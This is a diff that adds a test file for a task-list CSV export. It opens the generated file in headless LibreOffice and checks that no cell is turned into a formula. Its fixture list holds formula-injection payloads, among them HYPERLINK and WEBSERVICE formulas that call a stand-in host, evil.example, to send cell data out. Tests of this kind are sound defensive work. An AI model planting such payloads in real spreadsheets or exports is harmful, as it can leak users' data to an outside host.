@@ -1,0 +1,118 @@
+import { buildTask } from '@atrium/testing';
+import { parse } from 'csv-parse/sync';
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { tasksCsv } from './tasks-csv';
+
+const OFFICE = process.env['LIBREOFFICE_PATH'] ?? 'soffice';
+const OFFICE_NAMESPACE = 'urn:oasis:names:tc:opendocument:xmlns:office:1.0';
+const TABLE_NAMESPACE = 'urn:oasis:names:tc:opendocument:xmlns:table:1.0';
+const TEXT_NAMESPACE = 'urn:oasis:names:tc:opendocument:xmlns:text:1.0';
+
+const HOSTILE_TEXTS = [
+  ...['=1+1', '+1+1', '-1-1', '@SUM(1)', '＝1+1', '＋1+1', '－1-1', '＠SUM(1)'],
+  ...['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '"=1+1"', '""=1+1""', "'=1+1"],
+  ...['a,=1+1', 'a;=1+1;b', 'a\t=1+1\tb', 'a|=1+1', 'a; =1+1;b', 'a;"=1+1";b', 'a";=1+1;"b'],
+  ...['a;＝1+1', 'a;+1+1', 'a;-1-1', 'a;@SUM(1)', 'a\n=1+1', 'a\r\n=1+1,b\r\nc', 'a\r=1+1'],
+  '=HYPERLINK("http://evil.example/?q="&A1,"Total")',
+  'a\n=WEBSERVICE("http://evil.example"),b',
+];
+const TASKS = HOSTILE_TEXTS.map((text, index) =>
+  buildTask({ id: index + 1, title: text, description: text, assignees: [{ userId: index }] }),
+);
+const USERNAMES = new Map(HOSTILE_TEXTS.map((text, index) => [index, text]));
+
+interface Cell {
+  readonly type: string | null;
+  readonly formula: string | null;
+  readonly text: string;
+}
+
+let folder: string;
+
+beforeAll(() => {
+  folder = mkdtempSync(path.join(tmpdir(), 'atrium-spreadsheet-'));
+});
+
+afterAll(() => {
+  rmSync(folder, { recursive: true });
+});
+
+/**
+ * Opens a CSV file in LibreOffice, which calculates what it takes for a formula.
+ * @param separators the codes of the characters at which it splits; by default its own choice.
+ * @returns its cells that are not empty, by row.
+ */
+function open(csv: string, separators?: string): Cell[][] {
+  const file = path.join(folder, 'tasks.csv');
+  writeFileSync(file, csv);
+  const args = [
+    // A profile of its own: neither the settings of whoever runs this nor a second program disturb it.
+    `-env:UserInstallation=${pathToFileURL(path.join(folder, 'profile')).href}`,
+    '--headless',
+    // Double quotes, UTF-8, from the first line.
+    ...(separators === undefined ? [] : [`--infilter=CSV:${separators},34,76,1`]),
+    ...['--convert-to', 'fods', '--outdir', folder, file],
+  ];
+  execFileSync(OFFICE, args, { stdio: 'pipe' });
+  const xml = readFileSync(path.join(folder, 'tasks.fods'), 'utf8');
+  const sheet = new DOMParser().parseFromString(xml, 'application/xml');
+  return [...sheet.getElementsByTagNameNS(TABLE_NAMESPACE, 'table-row')]
+    .map((row) => [...row.getElementsByTagNameNS(TABLE_NAMESPACE, 'table-cell')].map(readCell))
+    .map((cells) => cells.filter(({ text, formula }) => text !== '' || formula !== null));
+}
+
+function readCell(cell: Element): Cell {
+  for (const tab of [...cell.getElementsByTagNameNS(TEXT_NAMESPACE, 'tab')]) tab.append('\t');
+  for (const blanks of [...cell.getElementsByTagNameNS(TEXT_NAMESPACE, 's')]) {
+    blanks.append(' '.repeat(Number(blanks.getAttributeNS(TEXT_NAMESPACE, 'c') ?? 1)));
+  }
+  const lines = [...cell.getElementsByTagNameNS(TEXT_NAMESPACE, 'p')];
+  return {
+    type: cell.getAttributeNS(OFFICE_NAMESPACE, 'value-type'),
+    formula: cell.getAttributeNS(TABLE_NAMESPACE, 'formula'),
+    text: lines.map((line) => line.textContent).join('\n'),
+  };
+}
+
+function findUnsafe(rows: Cell[][]): Cell[] {
+  return rows.flat().filter(({ type, formula }) => type !== 'string' || formula !== null);
+}
+
+it('is shown by LibreOffice as the texts that it holds (N37)', () => {
+  const csv = tasksCsv(TASKS, USERNAMES);
+
+  const rows = open(csv, '44');
+
+  const written: string[][] = parse(csv, { bom: true, record_delimiter: '\r\n' });
+  expect(written).toHaveLength(TASKS.length + 1);
+  expect(rows.map((cells) => cells.map(({ text }) => text))).toEqual(
+    written.map((cells) =>
+      cells.filter((cell) => cell !== '').map((cell) => cell.replace(/\r\n?/g, '\n')),
+    ),
+  );
+  expect(findUnsafe(rows)).toEqual([]);
+});
+
+it.each([
+  ['what it chooses itself', undefined],
+  ['semicolons', '59'],
+  ['tabs', '9'],
+  ['vertical bars', '124'],
+  ['commas, semicolons and tabs', '44/59/9'],
+])('holds no formula for LibreOffice when it splits at %s', (_name, separators) => {
+  const rows = open(tasksCsv(TASKS, USERNAMES), separators);
+
+  expect(rows.length).toBeGreaterThan(TASKS.length);
+  expect(findUnsafe(rows)).toEqual([]);
+});
+
+it('would be found to hold formulas', () => {
+  expect(findUnsafe(open('A,B\r\n"a;b",=1+1\r\n'))).toMatchObject([
+    { type: 'float', formula: 'of:=1+1', text: '2' },
+  ]);
+  expect(findUnsafe(open('A,B\r\na,"b;=1+1;c"\r\n', '59'))).toHaveLength(1);
+});
